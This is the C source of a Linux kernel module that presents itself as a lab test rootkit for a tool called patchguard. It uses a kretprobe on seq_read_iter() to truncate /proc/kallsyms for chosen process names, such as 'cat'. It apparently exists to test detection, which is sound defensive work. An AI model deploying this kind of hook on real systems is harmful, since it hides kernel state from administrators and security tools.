// SPDX-License-Identifier: GPL-2.0
/*
 * pg_kallsyms_filter: a test rootkit of patchguard's kernel lab
 * (tests/lab/test_lab_kallsyms_filtered.py). Rootkits seen in the wild filter what some
 * processes read: one cut /proc/kallsyms for processes named `cat`, which patchguard used to
 * read it through. This one ends /proc/kallsyms early for the processes it singles out: a
 * kretprobe on seq_read_iter() turns every read past the first `keep` bytes of the file into
 * end of file.
 *
 *   comm=<process name to filter> (default "cat"; "*": every process)
 *   keep=<bytes let through> (default 65536)
 */
#include <linux/fs.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/sched.h>
#include <linux/string.h>
#include <linux/uio.h>

static char comm[TASK_COMM_LEN] = "cat";
module_param_string(comm, comm, sizeof(comm), 0444);
MODULE_PARM_DESC(comm, "process name whose reads of /proc/kallsyms are cut (* for all)");
static unsigned long keep = 65536;
module_param(keep, ulong, 0444);
static unsigned long cut;
module_param(cut, ulong, 0444);
MODULE_PARM_DESC(cut, "reads turned into end of file");

struct pg_call {
	struct kiocb *iocb;
};

static bool pg_singled_out(struct kiocb *iocb)
{
	struct file *file = iocb->ki_filp;

	if (strcmp(comm, "*") && strncmp(current->comm, comm, TASK_COMM_LEN))
		return false;
	return file && !strcmp(file->f_path.dentry->d_name.name, "kallsyms") &&
	       iocb->ki_pos > keep;
}

static int pg_entry(struct kretprobe_instance *ri, struct pt_regs *regs)
{
	((struct pg_call *)ri->data)->iocb = (struct kiocb *)regs->di;
	return 0;
}

static int pg_return(struct kretprobe_instance *ri, struct pt_regs *regs)
{
	struct kiocb *iocb = ((struct pg_call *)ri->data)->iocb;

	if (iocb && (long)regs_return_value(regs) > 0 && pg_singled_out(iocb)) {
		regs_set_return_value(regs, 0);
		WRITE_ONCE(cut, READ_ONCE(cut) + 1);
	}
	return 0;
}

static struct kretprobe pg_probe = {
	.kp.symbol_name = "seq_read_iter",
	.entry_handler = pg_entry,
	.handler = pg_return,
	.data_size = sizeof(struct pg_call),
	.maxactive = 64,
};

static int __init pg_kallsyms_filter_init(void)
{
	int err = register_kretprobe(&pg_probe);

	if (err)
		pr_err("pg_kallsyms_filter: register_kretprobe: %d\n", err);
	else
		pr_info("pg_kallsyms_filter: /proc/kallsyms ends after %lu bytes for %s\n", keep, comm);
	return err;
}

static void __exit pg_kallsyms_filter_exit(void)
{
	unregister_kretprobe(&pg_probe);
}

module_init(pg_kallsyms_filter_init);
module_exit(pg_kallsyms_filter_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("patchguard lab test rootkit: /proc/kallsyms cut for processes by name");
